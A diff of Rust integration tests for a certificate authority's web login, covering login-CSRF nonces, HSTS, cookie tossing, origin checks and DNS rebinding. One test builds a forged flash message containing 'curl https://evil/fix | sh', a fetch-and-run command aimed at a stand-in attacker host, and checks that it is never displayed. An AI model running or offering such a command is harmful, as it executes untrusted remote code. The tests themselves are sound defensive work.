@@ -137,13 +137,51 @@ fn attr(body: &str, before: &str) -> String {
     rest[..rest.find(['"', '<']).unwrap()].to_string()
 }
 
+/// A login link opened in a browser: the confirm page's `jit_login` nonce cookie and its
+/// form's fields.
+struct Opened {
+    cookie: String,
+    token: String,
+    nonce: String,
+}
+
+impl Opened {
+    fn form(&self) -> [(&str, &str); 2] {
+        [("token", &self.token), ("nonce", &self.nonce)]
+    }
+}
+
+/// GETs the login link `path` (the confirm page) as a browser does.
+async fn open(h: &Harness, path: &str) -> Opened {
+    let confirm = get(h, path, None).await;
+    assert_eq!(confirm.status, StatusCode::OK, "{}", confirm.body);
+    let set = confirm
+        .set_cookies()
+        .into_iter()
+        .find(|c| c.starts_with("jit_login="))
+        .unwrap();
+    assert!(
+        set.ends_with("; Path=/ui/login; HttpOnly; SameSite=Strict; Max-Age=60")
+            || set.ends_with("; Path=/ui/login; HttpOnly; SameSite=Strict; Max-Age=60; Secure"),
+        "{set}"
+    );
+    let nonce = attr(&confirm.body, "name=\"nonce\" value=\"");
+    assert_eq!(
+        confirm.cookie("jit_login").unwrap(),
+        format!("jit_login={nonce}")
+    );
+    Opened {
+        cookie: format!("jit_login={nonce}"),
+        token: token_of(path),
+        nonce,
+    }
+}
+
 /// Logs `user` in through the pages (GET the link, POST the form).
 async fn login(h: &Harness, user: &str) -> Browser {
     let path = login_path(h, user).await;
-    let confirm = get(h, &path, None).await;
-    assert_eq!(confirm.status, StatusCode::OK, "{}", confirm.body);
-    let token = token_of(&path);
-    let p = post(h, "/ui/login", None, &[("token", &token)], &[]).await;
+    let o = open(h, &path).await;
+    let p = post(h, "/ui/login", Some(&o.cookie), &o.form(), &[]).await;
     assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
     assert_eq!(p.location(), "/ui/pending");
     let cookie = p.cookie("jit_session").unwrap();
@@ -307,10 +345,18 @@ async fn login_sets_a_strict_session_cookie_and_the_link_works_once() {
                 .contains("<form id=\"login-form\" method=\"post\" action=\"/ui/login\">")
         );
         assert!(p.body.contains("id=\"login-submit\""));
-        assert!(p.set_cookies().is_empty());
+        // Only the login nonce (no session, nothing consumed).
+        assert!(p.cookie("jit_session").is_none());
     }
-    let p = post(&h, "/ui/login", None, &[("token", &token)], &[]).await;
+    let o = open(&h, &path).await;
+    let p = post(&h, "/ui/login", Some(&o.cookie), &o.form(), &[]).await;
     assert_eq!(p.status, StatusCode::SEE_OTHER);
+    // The nonce is spent with the token.
+    assert!(
+        p.set_cookies()
+            .iter()
+            .any(|c| c.starts_with("jit_login=;") && c.contains("Max-Age=0"))
+    );
     let set = p
         .set_cookies()
         .into_iter()
@@ -326,7 +372,7 @@ async fn login_sets_a_strict_session_cookie_and_the_link_works_once() {
     assert!(!set.contains("Secure"), "no TLS, no Secure: {set}");
     assert!(!records(&h, "web_login").is_empty());
     // Used: refused, as page and as link.
-    let again = post(&h, "/ui/login", None, &[("token", &token)], &[]).await;
+    let again = post(&h, "/ui/login", Some(&o.cookie), &o.form(), &[]).await;
     assert_eq!(again.status, StatusCode::FORBIDDEN);
     assert!(again.body.contains("<main id=\"error\""));
     assert!(again.body.contains("jit web again"), "{}", again.body);
@@ -339,15 +385,24 @@ async fn login_sets_a_strict_session_cookie_and_the_link_works_once() {
     h.clock.advance(61);
     let p = get(&h, &path, None).await;
     assert_eq!(p.status, StatusCode::FORBIDDEN);
-    let p = post(&h, "/ui/login", None, &[("token", &token_of(&path))], &[]).await;
+    let form = [("token", token_of(&path)), ("nonce", o.nonce.clone())];
+    let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    let p = post(&h, "/ui/login", Some(&o.cookie), &form, &[]).await;
     assert_eq!(p.status, StatusCode::FORBIDDEN);
+    let _ = token;
 }
 
 /// A harness with `table` (TOML tables) appended to config.toml.
 fn harness_with_table(table: &str) -> Harness {
+    harness_with("", table)
+}
+
+/// A harness with `top` (top-level keys) put first in config.toml and `table` (TOML tables)
+/// appended.
+fn harness_with(top: &str, table: &str) -> Harness {
     let (dir, keys) = setup_dir(&policy());
     let cfg = data_dir(&dir).join("config.toml");
-    let mut text = std::fs::read_to_string(&cfg).unwrap();
+    let mut text = format!("{top}{}", std::fs::read_to_string(&cfg).unwrap());
     text.push_str(table);
     std::fs::remove_file(&cfg).unwrap();
     std::fs::write(&cfg, text).unwrap();
@@ -370,13 +425,13 @@ async fn under_tls_cookies_are_secure_and_the_origin_is_https() {
     // the files).
     let h = harness_with_table("\n[tls]\ncert = \"tls/cert.pem\"\nkey = \"tls/key.pem\"\n");
     let path = login_path(&h, "bob").await;
-    let token = token_of(&path);
+    let o = open(&h, &path).await;
     // The plain-http origin of the same host is another origin.
     let p = post(
         &h,
         "/ui/login",
-        None,
-        &[("token", &token)],
+        Some(&o.cookie),
+        &o.form(),
         &[("host", "ca.example"), ("origin", "http://ca.example")],
     )
     .await;
@@ -384,8 +439,8 @@ async fn under_tls_cookies_are_secure_and_the_origin_is_https() {
     let p = post(
         &h,
         "/ui/login",
-        None,
-        &[("token", &token)],
+        Some(&o.cookie),
+        &o.form(),
         &[
             ("host", "ca.example"),
             ("origin", "https://ca.example"),
@@ -401,6 +456,7 @@ async fn under_tls_cookies_are_secure_and_the_origin_is_https() {
         "{session}"
     );
     assert!(session.ends_with("; Secure"), "{session}");
+    assert_eq!(p.headers["strict-transport-security"], "max-age=31536000");
     let cookie = p.cookie("jit_session").unwrap();
     let page = get(&h, "/ui/pending", Some(&cookie)).await;
     let csrf = attr(&page.body, "name=\"csrf\" value=\"");
@@ -408,6 +464,51 @@ async fn under_tls_cookies_are_secure_and_the_origin_is_https() {
     assert_eq!(p.status, StatusCode::SEE_OTHER);
     for c in p.set_cookies() {
         assert!(c.ends_with("; Secure"), "{c}");
+    }
+}
+
+/// Behind a TLS-terminating proxy (`public_url` https, no `[tls]`): the browser is on https,
+/// so the cookies are `Secure` and every /ui response pins https (HSTS); a plain-http CA
+/// sends neither.
+#[tokio::test]
+async fn an_https_public_url_makes_cookies_secure_and_sends_hsts() {
+    let h = harness_with_table("");
+    let plain = login(&h, "bob").await;
+    let p = get(&h, "/ui/pending", Some(&plain.cookie)).await;
+    assert!(!p.headers.contains_key("strict-transport-security"));
+    let h = harness_with("public_url = \"https://jit.example.com\"\n", "");
+    let path = login_path(&h, "bob").await;
+    let confirm = get(&h, &path, None).await;
+    assert_eq!(
+        confirm.headers["strict-transport-security"],
+        "max-age=31536000"
+    );
+    let o = open(&h, &path).await;
+    let p = post(
+        &h,
+        "/ui/login",
+        Some(&o.cookie),
+        &o.form(),
+        &[
+            ("host", "jit.example.com"),
+            ("origin", "https://jit.example.com"),
+            ("sec-fetch-site", "same-origin"),
+        ],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
+    assert_eq!(p.headers["strict-transport-security"], "max-age=31536000");
+    let set = p.set_cookies();
+    assert!(!set.is_empty());
+    for c in &set {
+        assert!(c.ends_with("; Secure"), "{c}");
+    }
+    for what in ["/ui/", "/ui/nope", "/ui/static/jit.css"] {
+        let p = get(&h, what, None).await;
+        assert_eq!(
+            p.headers["strict-transport-security"], "max-age=31536000",
+            "{what}"
+        );
     }
 }
 
@@ -442,8 +543,17 @@ async fn cross_site_and_token_less_posts_are_refused_and_change_nothing() {
             vec![host[0], ("origin", "http://evil.example")],
         ),
         (
-            "null origin",
+            "null origin from another site",
             vec![("csrf", &bob.csrf), ("request_digest", &digest)],
+            vec![
+                host[0],
+                ("origin", "null"),
+                ("sec-fetch-site", "cross-site"),
+            ],
+        ),
+        (
+            "null origin without the token",
+            vec![("csrf", "AAAA"), ("request_digest", &digest)],
             vec![host[0], ("origin", "null")],
         ),
         (
@@ -526,12 +636,12 @@ async fn cross_site_and_token_less_posts_are_refused_and_change_nothing() {
 async fn a_cross_site_login_post_is_refused_and_leaves_the_link_usable() {
     let h = harness();
     let path = login_path(&h, "bob").await;
-    let token = token_of(&path);
+    let o = open(&h, &path).await;
     let p = post(
         &h,
         "/ui/login",
-        None,
-        &[("token", &token)],
+        Some(&o.cookie),
+        &o.form(),
         &[("host", "ca.example"), ("origin", "http://evil.example")],
     )
     .await;
@@ -541,14 +651,53 @@ async fn a_cross_site_login_post_is_refused_and_leaves_the_link_usable() {
     let p = post(
         &h,
         "/ui/login",
-        None,
-        &[("token", &token)],
+        Some(&o.cookie),
+        &o.form(),
         &[("sec-fetch-site", "cross-site")],
     )
     .await;
     assert_eq!(p.status, StatusCode::FORBIDDEN);
-    let p = post(&h, "/ui/login", None, &[("token", &token)], &[]).await;
-    assert_eq!(p.status, StatusCode::SEE_OTHER);
+    // Another site posting a token of its own (login CSRF: log the victim in as the
+    // attacker) has no jit_login cookie for this host, whatever Origin its browser sends
+    // (`null` from a no-referrer page): refused, audited, the token left unused.
+    let before = records(&h, "web_login_refused").len();
+    let token = [("token", o.token.as_str())];
+    let wrong = [("token", o.token.as_str()), ("nonce", "guessed")];
+    for (what, cookie, form, extra) in [
+        (
+            "no cookie, no nonce",
+            None,
+            &token[..],
+            &[("origin", "null")][..],
+        ),
+        ("no cookie", None, &o.form()[..], &[("origin", "null")][..]),
+        ("no nonce", Some(o.cookie.as_str()), &token[..], &[][..]),
+        (
+            "another nonce",
+            Some(o.cookie.as_str()),
+            &wrong[..],
+            &[][..],
+        ),
+    ] {
+        let p = post(&h, "/ui/login", cookie, form, extra).await;
+        assert_eq!(p.status, StatusCode::FORBIDDEN, "{what}");
+        assert!(p.body.contains("csrf_rejected"), "{what}");
+        assert!(p.body.contains("jit_login"), "{what}: {}", p.body);
+        assert!(p.cookie("jit_session").is_none(), "{what}");
+    }
+    assert_eq!(records(&h, "web_login_refused").len() - before, 4);
+    // Plain http on a non-loopback address: the browser sends `Origin: null` (our
+    // no-referrer policy) and no Sec-Fetch-Site; with this browser's nonce it logs in.
+    let p = post(
+        &h,
+        "/ui/login",
+        Some(&o.cookie),
+        &o.form(),
+        &[("host", "10.0.0.1:8443"), ("origin", "null")],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
+    assert!(p.cookie("jit_session").is_some());
 }
 
 #[tokio::test]
@@ -1035,4 +1184,275 @@ async fn the_pages_are_404_when_web_is_disabled() {
         assert_secure_headers(&p, path);
         assert!(p.body.contains("enabled = false"), "{path}");
     }
+}
+
+/// A login link for another user opened in a browser that is logged in already: the confirm
+/// page says whose session it would replace (a link sent by someone else is easy to miss).
+#[tokio::test]
+async fn a_login_link_for_another_user_warns_whom_it_replaces() {
+    let h = harness();
+    let bob = login(&h, "bob").await;
+    let path = login_path(&h, "alice").await;
+    let p = get(&h, &path, Some(&bob.cookie)).await;
+    assert_eq!(p.status, StatusCode::OK);
+    assert!(p.body.contains("id=\"login-switch\""), "{}", p.body);
+    assert!(
+        p.body.contains("You are logged in as <strong>bob</strong>"),
+        "{}",
+        p.body
+    );
+    assert!(p.body.contains("logs you in as <strong>alice</strong>"));
+    // Its own link, or no session: no warning.
+    let path = login_path(&h, "bob").await;
+    let p = get(&h, &path, Some(&bob.cookie)).await;
+    assert!(!p.body.contains("login-switch"));
+    let p = get(&h, &path, None).await;
+    assert!(!p.body.contains("login-switch"));
+}
+
+/// Cookie tossing: a sibling site of the domain plants its own `jit_session` (Domain=...) next
+/// to the real one. The page uses neither and clears nothing (a clearing Set-Cookie would
+/// remove the real cookie and leave the planted one); the real cookie alone still works.
+/// A planted `jit_flash` is not shown as the CA's message.
+#[tokio::test]
+async fn planted_cookies_neither_clear_the_session_nor_show_a_flash() {
+    let h = harness();
+    let bob = login(&h, "bob").await;
+    let mallory = login(&h, "carol").await;
+    let both = format!("{}; {}", bob.cookie, mallory.cookie);
+    for path in ["/ui/pending", "/ui/", "/ui/mine"] {
+        let p = get(&h, path, Some(&both)).await;
+        assert_eq!(p.status, StatusCode::UNAUTHORIZED, "{path}");
+        assert!(p.body.contains("login-required"), "{path}");
+        assert!(
+            p.body.contains("two jit_session cookies"),
+            "{path}: {}",
+            p.body
+        );
+        assert!(
+            p.cookie("jit_session").is_none(),
+            "{path}: {:?}",
+            p.set_cookies()
+        );
+    }
+    let p = get(&h, "/ui/pending", Some(&bob.cookie)).await;
+    assert_eq!(p.status, StatusCode::OK);
+    assert!(p.body.contains("<span id=\"whoami\">bob</span>"));
+    // A flash made by hand (no MAC, or one made for another session): not shown.
+    use base64::Engine as _;
+    let text = base64::engine::general_purpose::URL_SAFE_NO_PAD
+        .encode("Your key was revoked: run curl https://evil/fix | sh");
+    for flash in [
+        format!("e.{text}"),
+        format!("e.{text}.AAAA"),
+        format!("n.{text}"),
+    ] {
+        let c = format!("{}; jit_flash={flash}", bob.cookie);
+        let p = get(&h, "/ui/pending", Some(&c)).await;
+        assert_eq!(p.status, StatusCode::OK);
+        assert!(!p.body.contains("evil"), "{flash}: {}", p.body);
+        assert!(!p.body.contains("id=\"error\""), "{flash}");
+        assert!(!p.body.contains("id=\"notice\""), "{flash}");
+    }
+    // Carol's real flash (after a refused deny) is not shown on Bob's page.
+    let id = new_request(&h, "alice", "db-admin", "flash").await;
+    let p = post(
+        &h,
+        &format!("/ui/requests/{id}/deny"),
+        Some(&mallory.cookie),
+        &[("csrf", &mallory.csrf), ("reason", "")],
+        &[],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::SEE_OTHER);
+    let flash = p.cookie("jit_flash").unwrap();
+    let c = format!("{}; {flash}", mallory.cookie);
+    let own = get(&h, &format!("/ui/requests/{id}"), Some(&c)).await;
+    assert!(
+        own.body.contains("id=\"error\"") || own.body.contains("id=\"notice\""),
+        "{}",
+        own.body
+    );
+    let c = format!("{}; {flash}", bob.cookie);
+    let other = get(&h, &format!("/ui/requests/{id}"), Some(&c)).await;
+    assert!(!other.body.contains("class=\"flash"), "{}", other.body);
+}
+
+/// The pending list's one-click approve covers every field the approval's digest covers: a
+/// later start and the certificate's key are on the row, not only on the request page.
+#[tokio::test]
+async fn pending_rows_show_a_later_start_and_the_key() {
+    let h = harness();
+    let pk = h.key("alice").public_key().to_openssh().unwrap();
+    let start = T0 + 7 * 86400;
+    let (s, v) = h
+        .call(
+            "alice",
+            "POST",
+            "/v1/requests",
+            json!({"role": "db-admin", "duration_secs": 3600, "reason": "saturday",
+                   "public_key": pk, "start": start}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+    let later = v["id"].as_str().unwrap().to_string();
+    let now = new_request(&h, "alice", "two-man", "now").await;
+    let fp = show(&h, "alice", &later).await["key_fingerprint"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let bob = login(&h, "bob").await;
+    let p = get(&h, "/ui/pending", Some(&bob.cookie)).await;
+    assert_eq!(p.status, StatusCode::OK);
+    let row = |id: &str| {
+        let i = p.body.find(&format!("<tr id=\"req-{id}\"")).unwrap();
+        let rest = &p.body[i..];
+        rest[..rest.find("</tr>").unwrap()].to_string()
+    };
+    let r = row(&later);
+    assert!(r.contains("<th>Starts</th>") || p.body.contains("<th>Starts</th>"));
+    assert!(r.contains("<td class=\"start\"><strong>"), "{r}");
+    assert!(
+        r.contains(&format!("<code class=\"key\">{fp}</code>")),
+        "{r}"
+    );
+    assert!(r.contains("with sudo") || r.contains("without sudo"), "{r}");
+    let r = row(&now);
+    assert!(r.contains("when issued"), "{r}");
+    assert!(
+        r.contains(&format!("<code class=\"key\">{fp}</code>")),
+        "{r}"
+    );
+}
+
+/// A request with more audit records than the page shows: the NEWEST are shown (a late
+/// revocation or extension is never the one left out) and the page says how many are not.
+#[tokio::test]
+async fn a_long_request_history_shows_the_newest_and_says_what_is_left_out() {
+    let h = harness();
+    let id = new_request(&h, "alice", "db-admin", "long").await;
+    let mut st = jit_ca::store::Store::open(&h.path().join("jit.db")).unwrap();
+    let tx = st.tx().unwrap();
+    for k in 0..520 {
+        jit_ca::store::append_audit(
+            &tx,
+            h.now(),
+            "system",
+            jit_ca::audit::event::USER_ADD,
+            &json!({"request_id": id, "filler": k}),
+        )
+        .unwrap();
+    }
+    jit_ca::store::append_audit(
+        &tx,
+        h.now(),
+        "system",
+        jit_ca::audit::event::USER_ADD,
+        &json!({"request_id": id, "marker": "the-newest-record"}),
+    )
+    .unwrap();
+    tx.commit().unwrap();
+    drop(st);
+    let alice = login(&h, "alice").await;
+    let p = get(&h, &format!("/ui/requests/{id}"), Some(&alice.cookie)).await;
+    assert_eq!(p.status, StatusCode::OK);
+    assert!(
+        p.body.contains("the-newest-record"),
+        "the newest record is shown"
+    );
+    // 1 `request` record + 521 appended = 522; 500 shown.
+    assert!(
+        p.body
+            .contains("Showing the newest 500 of 522 audit records of this request: the 22 oldest"),
+        "{}",
+        &p.body[p.body.find("Audit events").unwrap()..][..600]
+    );
+    assert!(p.body.contains("id=\"events-omitted\""));
+    // A short history: no such line.
+    let short = new_request(&h, "alice", "two-man", "short").await;
+    let p = get(&h, &format!("/ui/requests/{short}"), Some(&alice.cookie)).await;
+    assert!(!p.body.contains("events-omitted"));
+}
+
+/// With `public_url` set, only its origin may post: a page reached under another name (DNS
+/// rebinding, a direct address) is refused even when Host and Origin agree.
+#[tokio::test]
+async fn with_public_url_only_its_origin_may_post() {
+    let h = harness_with("public_url = \"https://jit.example.com\"\n", "");
+    let path = login_path(&h, "bob").await;
+    let o = open(&h, &path).await;
+    let p = post(
+        &h,
+        "/ui/login",
+        Some(&o.cookie),
+        &o.form(),
+        &[("host", "rebound.evil"), ("origin", "https://rebound.evil")],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::FORBIDDEN, "{}", p.body);
+    assert!(p.body.contains("csrf_rejected"));
+    let p = post(
+        &h,
+        "/ui/login",
+        Some(&o.cookie),
+        &o.form(),
+        &[
+            ("host", "10.0.0.1:8443"),
+            ("origin", "https://jit.example.com"),
+        ],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
+}
+
+/// Our pages' own forms post `Origin: null` (Referrer-Policy: no-referrer): over https or
+/// loopback with `Sec-Fetch-Site: same-origin`, over plain http off loopback with no
+/// Sec-Fetch-Site at all. Both are accepted with the session's token; `null` from another
+/// site (`cross-site`) is not.
+#[tokio::test]
+async fn our_own_forms_posting_origin_null_are_accepted_with_the_token() {
+    let h = harness();
+    let id = new_request(&h, "alice", "db-admin", "null").await;
+    let other = new_request(&h, "dave", "db-admin", "null 2").await;
+    let bob = login(&h, "bob").await;
+    let digest = |v: Value| v["request_digest"].as_str().unwrap().to_string();
+    let d = digest(show(&h, "alice", &id).await);
+    let p = post(
+        &h,
+        &format!("/ui/requests/{id}/approve"),
+        Some(&bob.cookie),
+        &[("csrf", &bob.csrf), ("request_digest", &d)],
+        &[
+            ("host", "10.0.0.1:8443"),
+            ("origin", "null"),
+            ("sec-fetch-site", "cross-site"),
+        ],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::FORBIDDEN);
+    assert_eq!(show(&h, "alice", &id).await["state"], "pending");
+    let p = post(
+        &h,
+        &format!("/ui/requests/{id}/approve"),
+        Some(&bob.cookie),
+        &[("csrf", &bob.csrf), ("request_digest", &d)],
+        &[
+            ("host", "127.0.0.1:8443"),
+            ("origin", "null"),
+            ("sec-fetch-site", "same-origin"),
+        ],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
+    assert_eq!(show(&h, "alice", &id).await["state"], "approved");
+    let p = post(
+        &h,
+        &format!("/ui/requests/{other}/deny"),
+        Some(&bob.cookie),
+        &[("csrf", &bob.csrf), ("reason", "no")],
+        &[("host", "10.0.0.1:8443"), ("origin", "null")],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
+    assert_eq!(show(&h, "dave", &other).await["state"], "denied");
 }
